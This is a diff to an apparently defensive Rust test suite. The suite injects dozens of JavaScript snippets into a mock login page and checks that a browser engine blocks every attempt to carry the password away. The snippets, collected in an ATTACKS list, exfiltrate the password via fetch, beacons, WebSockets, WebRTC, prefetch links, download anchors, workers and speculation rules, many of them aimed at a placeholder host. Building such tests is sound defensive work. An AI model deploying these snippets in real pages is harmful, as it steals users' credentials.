@@ -73,6 +73,7 @@ fn page(attack: &str) -> String {
         "<!doctype html><div id=app><form id=f><input id=userid type=text placeholder='User ID'>\
          <input id=password type=password><button>Login</button></form></div><script>\
          const pw = () => document.getElementById('password').value;\
+         if (document.prerendering) for (let i = 0; i < 5; i++) fetch('/api/login', {{method: 'POST', body: location.search}});\
          document.getElementById('f').addEventListener('submit', (e) => {{ e.preventDefault(); {attack} }});\
          </script>"
     )
@@ -166,46 +167,62 @@ macro_rules! engines {
 
 engines!(chrome: CHROME, firefox: FIREFOX, chromedriver: CHROMEDRIVER, geckodriver: GECKODRIVER);
 
+/// What a page may try; none of it may carry anything away.
+const ATTACKS: &[&str] = &[
+    "addEventListener('pagehide', () => fetch('/api/login', {method: 'POST', keepalive: true, body: pw()}));",
+    "fetch('/api/v2/session', {method: 'POST', body: pw()}); setTimeout(() => location = '/blocked?' + pw(), 50);",
+    "for (let i = 0; i < 5; i++) fetch('/api/login', {method: 'PUT', body: pw()});",
+    "for (let i = 0; i < 5; i++) fetch('/api/log' + i, {method: 'POST', body: pw()}).catch(() => {});",
+    "fetch('/quiet?' + pw());",
+    "fetch('/api/login?' + pw());",
+    "navigator.sendBeacon('/beacon', pw());",
+    "window.open('/popup?' + pw());",
+    "const f = document.getElementById('f'); f.method = 'post'; f.action = '/api/login'; f.target = '_blank';\
+     document.getElementById('password').name = 'p'; f.submit();",
+    "const f = document.getElementById('f'); document.getElementById('password').name = 'p'; f.submit();",
+    "const f = document.createElement('iframe'); f.src = '/frame?' + pw(); document.body.append(f);",
+    "new Image().src = 'ELSEWHERE/?' + pw(); new WebSocket('ELSEWHERE/?'.replace('http', 'ws') + pw());",
+    "location = 'ELSEWHERE/?' + pw();",
+    "for (const rel of ['dns-prefetch', 'preconnect', 'prefetch', 'stylesheet', 'icon', 'modulepreload']) {\
+     const l = document.createElement('link'); l.rel = rel; l.href = 'ELSEWHERE/' + pw(); document.head.append(l); }",
+    "try { const p = new RTCPeerConnection({iceServers: [{urls: ['stun:STUN', 'turn:STUN?transport=udp'], \
+     username: pw(), credential: 'x'}, {urls: 'turn:STUN?transport=tcp', username: pw(), credential: 'x'}], \
+     iceCandidatePoolSize: 4}); p.createDataChannel(pw()); p.createOffer().then((o) => p.setLocalDescription(o)); } catch {}",
+    "const a = document.createElement('a'); a.download = pw(); a.href = 'data:text/plain,' + pw(); document.body.append(a); \
+     a.click(); const b = a.cloneNode(); b.href = URL.createObjectURL(new Blob([pw()])); b.click(); \
+     const c = a.cloneNode(); c.href = 'ELSEWHERE/' + pw(); c.click(); const d = a.cloneNode(); d.ping = 'ELSEWHERE/?' + pw(); \
+     d.href = '/file?' + pw(); d.click();",
+    "document.body.style.background = `url(ELSEWHERE/${pw()})`; new EventSource('ELSEWHERE/?' + pw()); \
+     new EventSource('/events?' + pw()); const v = document.createElement('video'); v.src = 'ELSEWHERE/' + pw(); v.load();",
+    "navigator.serviceWorker?.register('/worker.js?' + pw()).catch(() => {}); \
+     try { new Worker(URL.createObjectURL(new Blob([`fetch('ELSEWHERE/?${pw()}'); fetch('/w?${pw()}')`]))); } catch {} \
+     try { new SharedWorker('/shared.js?' + pw()); } catch {}",
+    "const f = document.createElement('iframe'); document.body.append(f); const w = f.contentWindow; \
+     try { new w.SharedWorker('/shared.js?' + pw()); } catch {} try { new w.Worker('/worker.js?' + pw()); } catch {} \
+     w.navigator.serviceWorker?.register('/service.js?' + pw()).catch(() => {});",
+    "try { new WebTransport('ELSEWHERE/?'.replace('http:', 'https:') + pw()); } catch {} \
+     const f = document.createElement('iframe'); f.srcdoc = `<img src='ELSEWHERE/?${pw()}'><script>fetch('ELSEWHERE/?${pw()}')\
+     <\\/script>`; document.body.append(f); const o = document.createElement('object'); o.data = 'ELSEWHERE/' + pw(); \
+     document.body.append(o); fetch('ELSEWHERE/?' + pw(), {keepalive: true, mode: 'no-cors'}).catch(() => {});",
+    "for (const method of ['PUT', 'POST']) fetch('/favicon.ico', {method, body: pw()}).catch(() => {});\
+     for (const place of ['/api/login?', '/api/login#', '/x?']) {fetch(place + pw() + '/favicon.ico').catch(() => {});\
+     fetch(place + '/favicon.ico', {method: 'PUT', body: pw()}).catch(() => {}); }",
+    "for (let i = 0; i < 5; i++) { const d = document.createElement('a'); d.download = pw(); d.href = `/file${i}?${pw()}`; \
+     document.body.append(d); d.click(); }",
+    "const text = '<a id=d download></a><script>d.href = `/file?${name}`; d.click(); d.click();<' + '/script>'; window.name = pw(); \
+     location = URL.createObjectURL(new Blob([text], {type: 'text/html'}));",
+    "const f = document.createElement('iframe'); f.srcdoc = `<a id=d download href='/file?${pw()}'></a><a id=e download \
+     href='/file?2${pw()}'></a><script>d.click(); e.click()<\\/script>`; document.body.append(f);",
+    "const d = document.createElement('a'); d.download = ''; d.href = '/api/login?' + pw(); d.click(); \
+     setTimeout(() => { const e = d.cloneNode(); document.body.append(e); e.click(); }, 300);",
+    "const f = document.createElement('iframe'); document.body.append(f); const p = f.contentDocument; \
+     p.body.innerHTML = '<map name=m><area id=a download></map><a id=b download>b</a>'; \
+     for (const d of [p.getElementById('a'), p.getElementById('b')]) { d.href = location.origin + '/file?' + pw(); d.click(); }",
+];
+
 async fn nothing_leaves(engine: Engine) {
-    let scripts = [
-        "addEventListener('pagehide', () => fetch('/api/login', {method: 'POST', keepalive: true, body: pw()}));",
-        "fetch('/api/v2/session', {method: 'POST', body: pw()}); setTimeout(() => location = '/blocked?' + pw(), 50);",
-        "for (let i = 0; i < 5; i++) fetch('/api/login', {method: 'PUT', body: pw()});",
-        "for (let i = 0; i < 5; i++) fetch('/api/log' + i, {method: 'POST', body: pw()}).catch(() => {});",
-        "fetch('/quiet?' + pw());",
-        "fetch('/api/login?' + pw());",
-        "navigator.sendBeacon('/beacon', pw());",
-        "window.open('/popup?' + pw());",
-        "const f = document.getElementById('f'); f.method = 'post'; f.action = '/api/login'; f.target = '_blank';\
-         document.getElementById('password').name = 'p'; f.submit();",
-        "const f = document.getElementById('f'); document.getElementById('password').name = 'p'; f.submit();",
-        "const f = document.createElement('iframe'); f.src = '/frame?' + pw(); document.body.append(f);",
-        "new Image().src = 'ELSEWHERE/?' + pw(); new WebSocket('ELSEWHERE/?'.replace('http', 'ws') + pw());",
-        "location = 'ELSEWHERE/?' + pw();",
-        "for (const rel of ['dns-prefetch', 'preconnect', 'prefetch', 'stylesheet', 'icon', 'modulepreload']) {\
-         const l = document.createElement('link'); l.rel = rel; l.href = 'ELSEWHERE/' + pw(); document.head.append(l); }",
-        "try { const p = new RTCPeerConnection({iceServers: [{urls: ['stun:STUN', 'turn:STUN?transport=udp'], \
-         username: pw(), credential: 'x'}, {urls: 'turn:STUN?transport=tcp', username: pw(), credential: 'x'}], \
-         iceCandidatePoolSize: 4}); p.createDataChannel(pw()); p.createOffer().then((o) => p.setLocalDescription(o)); } catch {}",
-        "const a = document.createElement('a'); a.download = pw(); a.href = 'data:text/plain,' + pw(); document.body.append(a); \
-         a.click(); const b = a.cloneNode(); b.href = URL.createObjectURL(new Blob([pw()])); b.click(); \
-         const c = a.cloneNode(); c.href = 'ELSEWHERE/' + pw(); c.click(); const d = a.cloneNode(); d.ping = 'ELSEWHERE/?' + pw(); \
-         d.href = '/file?' + pw(); d.click();",
-        "document.body.style.background = `url(ELSEWHERE/${pw()})`; new EventSource('ELSEWHERE/?' + pw()); \
-         new EventSource('/events?' + pw()); const v = document.createElement('video'); v.src = 'ELSEWHERE/' + pw(); v.load();",
-        "navigator.serviceWorker?.register('/worker.js?' + pw()).catch(() => {}); \
-         try { new Worker(URL.createObjectURL(new Blob([`fetch('ELSEWHERE/?${pw()}'); fetch('/w?${pw()}')`]))); } catch {} \
-         try { new SharedWorker('/shared.js?' + pw()); } catch {}",
-        "const f = document.createElement('iframe'); document.body.append(f); const w = f.contentWindow; \
-         try { new w.SharedWorker('/shared.js?' + pw()); } catch {} try { new w.Worker('/worker.js?' + pw()); } catch {} \
-         w.navigator.serviceWorker?.register('/service.js?' + pw()).catch(() => {});",
-        "try { new WebTransport('ELSEWHERE/?'.replace('http:', 'https:') + pw()); } catch {} \
-         const f = document.createElement('iframe'); f.srcdoc = `<img src='ELSEWHERE/?${pw()}'><script>fetch('ELSEWHERE/?${pw()}')\
-         <\\/script>`; document.body.append(f); const o = document.createElement('object'); o.data = 'ELSEWHERE/' + pw(); \
-         document.body.append(o); fetch('ELSEWHERE/?' + pw(), {keepalive: true, mode: 'no-cors'}).catch(() => {});",
-    ];
     // Most of an attack is waiting for what it might still do.
-    for some in scripts.chunks(4) {
+    for some in ATTACKS.chunks(4) {
         let attacks = some.iter().map(|script| attack(engine, script));
         let ended = futures_util::future::join_all(attacks).await;
         for (script, (seen, carried)) in some.iter().zip(ended) {
@@ -230,4 +247,15 @@ async fn one_leaves(engine: Engine) {
         assert!(carried[0].starts_with("POST /api/login "), "{carried:?}");
         assert!(matches!(seen, Seen::Unchanged), "{seen:?}");
     }
+    // An engine may take it for what the browser asks for by itself, and stop them all.
+    let favicon = "for (let i = 0; i < 5; i++) fetch('/api/login?' + i + '/favicon.ico', {method: 'POST', body: pw()})\
+                   .catch(() => {});";
+    let (_, carried) = attack(engine, favicon).await;
+    assert!(carried.len() <= 1, "{favicon}\nlet {carried:?} leave");
+    // What is fetched beforehand is a GET to the page's own origin, as a picture would be; what is shown beforehand is a page
+    // that nobody watches.
+    let ahead = "const s = document.createElement('script'); s.type = 'speculationrules'; s.textContent = JSON.stringify(\
+                 {prerender: [{source: 'list', urls: ['/ahead?' + pw()], eagerness: 'immediate'}]}); document.head.append(s);";
+    let (_, carried) = attack(engine, ahead).await;
+    assert!(carried.iter().all(|request| request.starts_with("GET ")), "{ahead}\nlet {carried:?} leave");
 }
